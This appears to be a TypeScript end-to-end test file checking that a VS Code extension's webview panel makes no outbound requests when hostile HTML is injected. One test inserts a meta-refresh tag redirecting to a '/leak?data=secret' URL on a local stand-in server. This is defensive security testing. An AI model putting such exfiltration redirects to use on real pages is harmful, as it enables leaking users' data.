import assert from 'node:assert/strict';
import { type StrayServer, startStrayServer } from '../support/strayServer';
import { testMs } from './driver/patience';
import { hostileTexts } from './panel/hostile';
import { type Scene, openScene } from './support';

describe('The panel in the real window, were there no renderer', function () {
  this.timeout(testMs);
  let scene: Scene;
  /** Where hostile text tries to reach. */
  let elsewhere: StrayServer;
  let strays: string[];
  let origin: string;

  before(async () => {
    elsewhere = await startStrayServer();
    ({ origin, strays } = elsewhere);
    scene = await openScene();
    await scene.explain();
    await scene.panel.waitFor('done');
  });
  after(async () => {
    await scene?.close();
    elsewhere?.close();
  });

  /** Puts HTML into the panel's page as it is. */
  const insert = (html: string): Promise<void> =>
    scene.panel
      .frame()
      .locator('body')
      .evaluate((body, inner) => {
        const place = document.createElement('div');
        body.append(place);
        place.innerHTML = inner;
        body.querySelectorAll('form').forEach((form) => form.submit());
      }, html);

  it('P6: asks for nothing', async () => {
    for (const text of hostileTexts(origin)) await insert(text.replace(/<meta[^>]*>/g, ''));
    await scene.panel
      .frame()
      .locator('body')
      .evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
    assert.deepEqual(strays, []);
  });

  it('L13: is not left by a page that refreshes itself', async () => {
    const { page } = scene.window;
    // VS Code's page around it lets no page of others stand in its place; Chromium shows one of its own there.
    const refused = page.waitForEvent('framenavigated', (frame) => frame.url().startsWith('chrome-error:'));
    await insert(`<meta http-equiv="refresh" content="0;url=${origin}/leak?data=secret">`);
    await refused;
    assert.deepEqual(strays, []);
  });
});
